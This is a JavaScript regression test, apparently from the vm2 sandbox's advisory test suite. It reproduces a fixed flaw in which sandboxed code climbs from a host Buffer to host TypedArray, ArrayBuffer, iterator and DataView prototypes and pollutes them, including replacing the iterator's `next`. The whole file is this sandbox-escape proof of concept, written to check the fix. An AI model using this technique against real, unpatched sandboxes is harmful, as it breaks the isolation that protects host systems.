// Source: vm2 test/ghsa/GHSA-3vgf-8m4q-q4qr/repro.js (duplicate GHSA-59g5-pmg6-5gr4; fixed after vm2 3.11.2, by 3.12.2):
// host TypedArray / ArrayBuffer / DataView / iterator intrinsic prototypes were missing from vm2's
// protected set, so sandbox writes reached them.
// Tried: climb from a host Buffer (and its .buffer, its iterator) to the host Uint8Array.prototype,
// %TypedArray%.prototype, ArrayBuffer.prototype, ArrayIterator.prototype, %IteratorPrototype% and
// DataView.prototype, and define a marker or replace `next` on them.
const out = {};
const lookupGetter = ({}).__lookupGetter__;
const apply = Buffer.apply;
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
try {
  const rawGetter = apply.apply(lookupGetter, [Buffer, ['__proto__']]);
  out.getter = typeof rawGetter;
  const protoGetter = typeof rawGetter === 'function' ? rawGetter : { call: (x) => Object.getPrototypeOf(x) };
  const hostBuffer = Buffer.from([1]);
  const bufferProto = protoGetter.call(hostBuffer);
  const u8Proto = protoGetter.call(bufferProto);
  const taProto = protoGetter.call(u8Proto);
  const abProto = protoGetter.call(hostBuffer.buffer);
  const iterProto = protoGetter.call(Buffer.from([1]).values());
  const itProto = protoGetter.call(iterProto);
  const textProto = protoGetter.call(new TextEncoder().encode('x'));
  for (const [name, proto] of Object.entries({ u8Proto, taProto, abProto, iterProto, itProto, textProto })) {
    try { out[name] = Reflect.defineProperty(proto, '__wrPolluted', { value: 'x', configurable: true }); } catch (e) { out[name] = String(e.message).slice(0, 50); }
  }
  try { Reflect.defineProperty(iterProto, 'next', { value() { return { value: 'PWN', done: false }; }, configurable: true, writable: true }); } catch (e) {}
} catch (e) { out.climb = String(e.message).slice(0, 80); }
try {
  const dvProto = apply.apply(lookupGetter, [Buffer, ['__proto__']]).call(new DataView(new ArrayBuffer(1)));
  Reflect.defineProperty(dvProto, '__wrPolluted', { value: 'x', configurable: true });
} catch (e) {}
if (Buffer.from([1]).__wrPolluted !== undefined || new TextEncoder().encode('x').__wrPolluted !== undefined) __wr.flag('a host typed-array prototype was polluted');
for (const v of Buffer.from([1, 2]).values()) if (v === 'PWN') __wr.flag('host ArrayIterator.prototype.next was replaced');
return out;
